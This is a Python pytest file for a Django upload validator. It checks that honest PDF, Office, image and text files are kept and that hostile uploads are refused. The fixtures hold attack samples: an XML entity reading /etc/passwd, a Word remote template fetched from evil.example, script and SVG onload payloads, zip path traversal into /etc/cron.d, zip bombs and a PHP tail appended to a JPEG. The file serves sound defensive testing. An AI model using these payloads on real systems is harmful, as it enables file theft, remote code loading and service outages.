"""What people give is looked into: each kind of attack once, and what is honest passes."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from tests import factories as make
from utkik.people import papers, uploads
from utkik.people.papers import FileRefused

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCUMENT = "<w:document><w:body/></w:document>"


def archive(parts=None, *, main="word/document.xml", **more):
    """An Office file with these parts besides what makes it one."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in ({"[Content_Types].xml": TYPES, main: DOCUMENT} | (parts or {})).items():
            made.writestr(name, text)
    return written.getvalue()


def picture(form="PNG", size=(20, 10), **options):
    written = io.BytesIO()
    Image.new("RGB", size, "red").save(written, form, **options)
    return written.getvalue()


def give(name, content):
    return uploads.keep(SimpleUploadedFile(name, content), by=make.member("scanner"))


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("rapport.pdf", PDF, "application/pdf"),
        ("Protokoll.DOCX", archive(), uploads.TYPES[".docx"]),
        ("bilder.pptx", archive(main="ppt/presentation.xml"), uploads.TYPES[".pptx"]),
        ("tal.xlsx", archive(main="xl/workbook.xml"), uploads.TYPES[".xlsx"]),
        ("karta.png", picture(), "image/png"),
        ("foto.jpg", picture("JPEG"), "image/jpeg"),
        ("anteckning.txt", "Å ä ö".encode(), "text/plain; charset=utf-8"),
        ("gammal.txt", "Å ä ö".encode("cp1252"), "text/plain; charset=utf-8"),
        ("anteckningar.txt", "Å ä ö".encode("utf-16"), "text/plain; charset=utf-8"),
    ],
)
def test_an_honest_file_is_kept(name, content, kind):
    upload = give(name, content)
    assert upload.content_type == kind
    assert upload.file.read()


def bomb():
    return archive({"word/media/image1.xml": b"0" * (papers.MOST_UNPACKED + 1)})


def lying_bomb():
    """Its directory says that the part is small."""
    content = bytearray(archive({"word/big.xml": b"0" * 3_000_000}))
    directory = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/big.xml"))
    content[directory + 24 : directory + 28] = (10).to_bytes(4, "little")
    return bytes(content)


ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
TEMPLATE = '<Relationship Type="…/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
HOSTILE = {
    "a page as PDF": ("rapport.pdf", b"<html><script>alert(1)</script></html>"),
    "a PDF that is a zip too": ("rapport.pdf", b"%PDF-1.7\n" + archive() + b"%%EOF"),
    "a PDF after something else": ("rapport.pdf", b"GIF89a" + PDF),
    "a page as picture": ("bild.png", b"<svg onload=alert(1)>"),
    "a JPEG called PNG": ("bild.png", picture("JPEG")),
    "a drawing": ("bild.svg", b"<svg/>"),
    "a page": ("sida.html", b"<h1>Hej</h1>"),
    "a program": ("rapport.pdf.exe", b"MZ"),
    "a program turned round": ("rapport\u202efdp.exe", b"MZ"),
    "no suffix": ("rapport", PDF),
    "nothing": ("tom.txt", b""),
    "NUL in text": ("x.txt", b"abc\x00def"),
    "a plain zip as Word": ("x.docx", archive(main="hej.txt")),
    "Excel as Word": ("x.docx", archive(main="xl/workbook.xml")),
    "Word after something else": ("x.docx", b"%PDF-1.7" + archive()),
    "macros": ("x.docx", archive({"word/vbaProject.bin": "x"})),
    "macros by type": ("x.docx", archive({"[Content_Types].xml": TYPES.replace("types", "macroEnabled.12")})),
    "an embedded program": ("x.docx", archive({"word/embeddings/oleObject1.bin": "x"})),
    "an entity": ("x.docx", archive({"word/document.xml": ENTITY})),
    "an entity in UTF-16": ("x.docx", archive({"word/document.xml": ENTITY.encode("utf-16")})),
    "a remote template": ("x.docx", archive({"word/_rels/settings.xml.rels": TEMPLATE})),
    "a part outside": ("x.docx", archive({"../../etc/cron.d/x": "x"})),
    "a part at the root": ("x.docx", archive({"/etc/x": "x"})),
    "too many parts": ("x.docx", archive({f"word/{n}.xml": "" for n in range(papers.MOST_FILES + 1)})),
    "a broken zip": ("x.docx", archive()[:60]),
    "a bomb": ("x.docx", bomb),
    "a bomb that lies": ("x.docx", lying_bomb),
    "a giant picture": ("x.png", lambda: picture(size=(8_000, 6_000))),
    "a thin giant": ("x.png", lambda: picture(size=(1, 60_000))),
    "a cut picture": ("x.png", picture(size=(300, 300))[:120]),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_in_words(case):
    name, content = HOSTILE[case]
    with pytest.raises(FileRefused) as refused:
        give(name, content() if callable(content) else content)
    assert refused.value.sentence.endswith(".")


def test_a_file_over_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MOST_BYTES", 100)
    with pytest.raises(FileRefused):
        give("rapport.pdf", PDF + b" " * 100 + b"%%EOF")


def test_a_picture_keeps_nothing_that_is_not_seen():
    marked = Image.Exif()
    marked[0x010E] = "<script>alert(1)</script> 57.4875 N"
    content = picture("JPEG", exif=marked, comment=b"hemligt") + b"<?php evil ?>"
    kept = give("foto.jpg", content).file.read()
    for trace in (b"script", b"57.4875", b"hemligt", b"php", b"Exif"):
        assert trace not in kept


def test_a_turned_photo_stands_upright():
    turned = Image.Exif()
    turned[0x0112] = 6
    kept = Image.open(give("foto.jpg", picture("JPEG", exif=turned)).file)
    assert kept.size == (10, 20)


@pytest.mark.parametrize(
    ("given", "name"),
    [
        ("..\\..\\Windows\\rapport.pdf", "rapport.pdf"),
        ("../../etc/rapport.pdf", "rapport.pdf"),
        ("rap\x00po\u202ert.pdf", "rapport.pdf"),
        ("A\u030angfa\u0308rd.pdf", "Ångfärd.pdf"),
        ('ra"p|p<o>r*t?.pdf', "rapport.pdf"),
        ("x" * 400 + ".pdf", "x" * 150 + ".pdf"),
        ("..pdf", "fil.pdf"),
    ],
)
def test_a_name_is_only_a_name(given, name):
    tidied = uploads.tidy_name(given)
    assert tidied == name or (given == "..pdf" and "/" not in tidied and not tidied.startswith("."))


def test_the_stored_name_is_nobodys_guess():
    upload = give("rapport.pdf", PDF)
    assert "rapport" not in upload.file.name
    assert upload.file.name.startswith(f"{upload.organisation_id}/")


def test_a_file_is_handed_out_as_a_download_that_runs_nothing():
    response = uploads.answer(give("Årsrapport å.pdf", PDF))
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%C3%85rsrapport")
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    response.close()
